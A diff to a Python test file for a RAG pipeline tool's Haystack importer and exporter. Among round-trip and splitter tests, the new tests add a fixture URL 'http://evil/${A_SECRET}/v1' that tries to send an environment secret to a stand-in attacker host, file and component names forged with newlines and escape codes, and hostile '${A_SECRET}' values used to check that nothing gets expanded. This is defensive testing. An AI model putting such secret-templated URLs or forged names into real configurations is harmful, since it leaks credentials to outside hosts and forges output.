@@ -17,6 +17,7 @@ from ragbraid.exchange.exporting.chain import chain_of
 from ragbraid.exchange.exporting.haystack import haystack
 from ragbraid.exchange.importing.haystack import imported
 from ragbraid.pipeline.check import check_file
+from ragbraid.pipeline.environment import variables_of
 from ragbraid.pipeline.find import find, packaged_names
 from soaking import count
 
@@ -212,6 +213,7 @@ def test_words_alone_and_an_extractive_reader_need_no_model(tmp_path: Path) -> N
         ),
     )
     assert told["components"] == {"index": {"type": "faiss", "path": ".ragbraid/index"}}
+    assert "`retriever` gives 5 passages to the answer: ask with -k 5 for as many." in notes
     assert told["search"][0]["type"] == "lexical"
     assert told["ask"] == ["search", {"type": "quote"}]
     assert "No file says how documents are indexed: they are read and cut as by default." in notes
@@ -242,13 +244,117 @@ def test_several_retrievers_without_a_joiner_and_a_hybrid_one_are_fused(tmp_path
     assert "Several lists of documents are answered from: they are fused by rank." in notes
 
 
-@pytest.mark.parametrize("name", [each for each in packaged_names() if each in ("lexical",)])
-def test_what_was_exported_comes_back(name: str, tmp_path: Path) -> None:
+RERANKED = """ragbraid: 1
+components:
+  embedder: {type: testing/hash-embedder}
+  index: {type: faiss, path: "$${HOME}", embedder: embedder}
+search:
+  - {type: dense, index: index, candidates: 20}
+  - {id: pairs, type: bigrams, hits: hits}
+  - {type: maxsim, embedder: embedder}
+ask:
+  - search
+  - type: compose
+    generator: {type: openai, base_url: "${HOST:-http://h}/v1", model: m$$$$, api_key: "${A_KEY:-}"}
+"""
+READ = """ragbraid: 1
+components: {index: {type: faiss, path: words}}
+ask:
+  - {type: lexical, index: index, candidates: 10}
+  - {id: cited, type: quote, max_sentences: 1}
+"""
+
+
+@pytest.mark.parametrize("name", packaged_names())
+def test_a_shipped_pipeline_that_was_exported_comes_back(name: str, tmp_path: Path) -> None:
     before = chain_of(find(PIPELINES / f"{name}.yaml"))
-    (tmp_path / "hs.yaml").write_text(haystack(before), "utf-8")
-    made(tmp_path, tmp_path / "hs.yaml")
-    after = chain_of(find(tmp_path / "ragbraid.yaml"))
-    assert after.parts == before.parts
+    if before.parts[0].kind in ("search", "pipeline"):
+        (tmp_path / "hs.yaml").write_text(haystack(before), "utf-8")
+        with pytest.raises(InputError, match=rf"{name}\.yaml already.*Use that pipeline"):
+            imported([tmp_path / "hs.yaml"], tmp_path)
+    else:
+        demand_same(PIPELINES / f"{name}.yaml", tmp_path)
+
+
+@pytest.mark.parametrize("text", [RERANKED, READ])
+def test_what_was_exported_in_parts_comes_back(text: str, tmp_path: Path) -> None:
+    (tmp_path / "before.yaml").write_text(text, "utf-8")
+    demand_same(tmp_path / "before.yaml", tmp_path)
+
+
+def demand_same(file: Path, folder: Path) -> None:
+    """Export a file to Haystack, and import it."""
+    before = chain_of(find(file))
+    (folder / "hs.yaml").write_text(haystack(before), "utf-8")
+    made(folder, folder / "hs.yaml")
+    assert chain_of(find(folder / "ragbraid.yaml")).parts == before.parts
+
+
+def test_a_component_beside_one_of_ours_is_taken_over(tmp_path: Path) -> None:
+    ours = "haystack_integrations.components.pipelines.ragbraid.search.RagbraidSearch"
+    _, notes = made(
+        tmp_path,
+        file(
+            tmp_path,
+            "a.yaml",
+            {"found": (ours, {"pipeline": None}), "words": ("x.InMemoryBM25Retriever", {})},
+        ),
+    )
+    assert any(
+        "`found` (RagbraidSearch): it is ragbraid's built-in pipeline already" in each for each in notes
+    )
+
+
+def test_of_several_splitters_it_is_said_that_one_is_left(tmp_path: Path) -> None:
+    told, notes = made(
+        tmp_path,
+        file(
+            tmp_path,
+            "a.yaml",
+            {
+                "heads": ("x.MarkdownHeaderSplitter", {}),
+                "words": ("x.DocumentSplitter", {"split_length": 150}),
+            },
+        ),
+    )
+    assert told["ingest"][1]["max_tokens"] == 200
+    assert "`words` (DocumentSplitter) takes the place of the splitter before it: there is one here." in notes
+
+
+def test_the_environment_isnt_told_to_a_files_server(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("A_SECRET", "s3cret")
+    path = file(
+        tmp_path,
+        "a.yaml",
+        {
+            "embedder": ("x.SentenceTransformersTextEmbedder", {"prefix": "$${A_SECRET} costs $3"}),
+            "find": ("x.InMemoryEmbeddingRetriever", {}),
+            "llm": (
+                "x.OpenAIChatGenerator",
+                {"api_base_url": "http://evil/${A_SECRET}/v1", "model": "${A_SECRET:-x}", "api_key": KEY},
+            ),
+        },
+        "find -> llm",
+    )
+    told, notes = made(tmp_path, path)
+    assert told["components"]["generator"]["base_url"] == "http://evil/$${A_SECRET}/v1"
+    with Pipeline.load(tmp_path / "ragbraid.yaml") as pipeline:
+        made_of = repr(pipeline.flows), pipeline.to_yaml(), repr(pipeline.flow("ask"))
+    assert not any("s3cret" in each for each in made_of)
+    assert "http://evil/${A_SECRET}/v1" in made_of[2]
+    assert [each for each in notes if "environment" in each] == [
+        "It reads OPENAI_API_KEY from the environment."
+    ]
+
+
+def test_a_files_name_and_a_components_stay_comments(tmp_path: Path) -> None:
+    path = file(
+        tmp_path, "a.yaml", {"x\nname: forged \x1b[31m\u2028z": ("x.InMemoryBM25Retriever", {"a": 1})}
+    )
+    path = path.rename(tmp_path / "a\nname: forged\r\x1b.yaml")
+    told, notes = made(tmp_path, path)
+    assert told["name"] == "imported"
+    assert any("x name: forged" in each for each in notes)
 
 
 @pytest.mark.parametrize(
@@ -287,6 +393,15 @@ def test_a_file_cant_have_code_run(tmp_path: Path) -> None:
         imported([path], tmp_path)
 
 
+HOSTILE: Any = st.recursive(
+    st.sampled_from(["${A_SECRET}", "$$${A_SECRET:-x}", "${", "word", 3, -1, True, None, 0.5]),
+    lambda inner: st.lists(inner, max_size=2) | st.dictionaries(st.just("${A_SECRET}"), inner, max_size=1),
+    max_leaves=3,
+)
+SETTINGS = [
+    "api_base_url", "api_key", "document_store", "filters", "generation_kwargs", "join_mode", "model",
+    "prefix", "split_by", "split_length", "split_overlap", "split_unit", "top_k", "url", "weights",
+]  # fmt: skip
 KINDS = [
     "TextFileToDocument", "DocumentSplitter", "SentenceTransformersTextEmbedder", "OpenAIDocumentEmbedder",
     "InMemoryBM25Retriever", "InMemoryEmbeddingRetriever", "QdrantHybridRetriever", "DocumentJoiner",
@@ -317,6 +432,24 @@ def test_any_graph_of_components_comes_to_a_right_file_or_is_refused(data: Any, 
     )
     with contextlib.suppress(InputError) if not _says_anything(kinds) else contextlib.nullcontext():
         made(tmp_path, path)
+
+
+@settings(
+    max_examples=count(60, 3000), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(
+    kinds=st.lists(st.sampled_from(KINDS), min_size=1, max_size=4),
+    told=st.lists(st.dictionaries(st.sampled_from(SETTINGS), HOSTILE, max_size=6), min_size=4, max_size=4),
+)
+def test_no_setting_of_a_file_names_a_variable(kinds: list[str], told: list[Any], tmp_path: Path) -> None:
+    components = {f"c{n}": (f"x.{kind}", told[n]) for n, kind in enumerate(kinds)}
+    chain = [f"c{n}.x -> c{n + 1}.y" for n in range(len(kinds) - 1)]
+    try:
+        text, _ = imported([file(tmp_path, "any.yaml", components, *chain)], tmp_path)
+    except RagbraidError:
+        return
+    read = "\n".join(each for each in text.splitlines() if not each.startswith("#"))
+    assert variables_of(read) == []
 
 
 def _says_anything(kinds: list[str]) -> bool:
